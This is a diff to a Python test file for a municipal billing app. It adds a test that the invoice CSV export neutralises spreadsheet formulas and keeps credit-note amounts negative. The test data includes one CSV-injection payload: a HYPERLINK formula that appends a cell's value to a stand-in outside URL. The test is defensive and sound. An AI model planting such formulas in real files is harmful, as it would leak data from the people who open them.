@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import datetime
 import io
 import unicodedata
@@ -121,3 +122,22 @@ def test_a_billing_profile_with_a_bad_siret_does_not_validate(bordeaux: Commune)
         profile.full_clean()
 
     assert "siret" in caught.value.message_dict
+
+
+def test_the_csv_neutralises_a_formula_in_a_label_and_keeps_negative_amounts(
+    bordeaux: Commune,
+) -> None:
+    from tenants.billing.exports import invoices_csv
+
+    formula = '=HYPERLINK("https://example.com/?x="&A1;"Facture")'
+    invoice = invoice_create(commune=bordeaux, lines=[line(label=formula)], **SEPTEMBER)
+    credit_note = invoice_cancel(
+        invoice=invoice, issued_on=datetime.date(2026, 10, 3), reason="Erreur"
+    )
+
+    data = invoices_csv(invoices=[invoice, credit_note], profiles={})
+
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    assert [row[8] for row in rows[1:]] == [f"'{formula}", f"'{formula}"]
+    # A credit note's amounts are plain negative numbers, read as numbers, not formulas.
+    assert rows[2][9:15] == ["-3,00", "450,00", "20,00", "-1350,00", "-270,00", "-1620,00"]
